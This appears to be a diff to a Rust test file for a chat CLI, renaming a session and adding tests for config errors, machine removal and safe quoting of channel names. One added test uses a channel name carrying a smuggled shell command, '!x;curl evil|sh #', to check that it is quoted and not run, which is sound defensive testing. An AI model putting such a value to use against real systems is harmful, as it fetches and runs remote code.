@@ -193,20 +193,20 @@ fn a_whisper_reaches_a_live_session_and_fails_for_an_absent_one() {
     let ann = Home::registered(&server.url, "ann");
     ann.run(["whisper", "ann/m/nobody", "hi"]).fails(1, "not online", "conclave who");
     ann.run(["channel", "create", "ops"]).ok();
-    let tail = common::Running::start(ann.command(["tail", "--channel", "ops", "--as", "desk"]));
+    let tail = common::Running::start(ann.command(["tail", "--channel", "ops", "--as", "cli-desk"]));
     tail.note("following #ops");
     assert_eq!(
         ann.run(["who", "--json"]).json(),
-        json!([{ "path": "ann/m/desk", "user": "ann", "machine": "m", "session": "desk" }])
+        json!([{ "path": "ann/m/cli-desk", "user": "ann", "machine": "m", "session": "cli-desk" }])
     );
-    assert_eq!(ann.run(["who", "ops"]).ok().out, "USER  MACHINE  SESSION\nann   m        desk\n");
-    ann.run(["whisper", "ann/m/desk", "hi"]).ok();
+    assert_eq!(ann.run(["who", "ops"]).ok().out, "USER  MACHINE  SESSION\nann   m        cli-desk\n");
+    ann.run(["whisper", "ann/m/cli-desk", "hi"]).ok();
     let shown = tail.line();
     assert!(shown.contains("ann/m/cli-") && shown.ends_with(" whispers: hi"), "{shown}");
     let told = ann.run(["approve", "abcde", "--json"]).json();
-    assert_eq!(told, json!({ "id": "abcde", "verdict": "yes", "told": ["ann/m/desk"] }));
+    assert_eq!(told, json!({ "id": "abcde", "verdict": "yes", "told": ["ann/m/cli-desk"] }));
     assert!(tail.line().ends_with(" whispers: yes abcde"));
-    ann.run(["kick", "--channel", "ops", "ann/m/desk"]).ok();
+    ann.run(["kick", "--channel", "ops", "ann/m/cli-desk"]).ok();
     assert_eq!(ann.run(["who", "ops", "--json"]).json(), json!([]));
 }
 
@@ -273,4 +273,37 @@ fn the_doctor_finds_nothing_wrong_where_nothing_is() {
     }
     assert_eq!(common::names(&ann.dir), ["config.toml", "config.toml.lock", "key"], "nothing is left behind");
     assert!(ann.run(["doctor"]).ok().out.contains("All is well."));
+}
+
+#[test]
+fn a_configuration_that_cannot_be_read_is_in_nobodys_way() {
+    let server = Server::start();
+    let ann = Home::registered(&server.url, "ann");
+    std::fs::write(ann.path("config.toml"), "servers = [\n").unwrap();
+    let ran = ann.run(["doctor", "--server", &server.url, "--json"]);
+    let report: Value = serde_json::from_str(&ran.out).unwrap();
+    let good = report["checks"].as_array().unwrap().iter().filter(|check| check["result"] == "ok");
+    let good: Vec<_> = good.map(|check| check["check"].as_str().unwrap()).collect();
+    assert!(ran.code == 1 && good.contains(&"latency") && !good.contains(&"config"), "{report}");
+}
+
+#[test]
+fn who_removes_this_machine_is_told_that_it_was_done() {
+    let server = Server::start();
+    let (ann, other) = (Home::registered(&server.url, "ann"), Home::new());
+    let key = other.run(["key", "--json"]).json()["public_key"].as_str().unwrap().to_owned();
+    ann.run(["machine", "add", "--name", "phone", "--pubkey", &key]).ok();
+    let removed = ann.run(["machine", "remove", "m", "--json"]).json();
+    assert_eq!(removed, json!({ "server": server.url, "machine": "m" }));
+    other.run(["who", "--server", &server.url]).ok();
+}
+
+#[test]
+fn a_name_in_advice_runs_nothing() {
+    let server = Server::start();
+    let eve = Home::registered(&server.url, "eve");
+    eve.run(["channel", "create", "!x;curl evil|sh #"]).ok();
+    let bob = Home::new();
+    let told = bob.run(["register", "--server", &server.url, "--username", "bob", "--machine", "m"]).ok().err;
+    assert!(told.contains("conclave join '!x;curl evil|sh #'"), "{told}");
 }
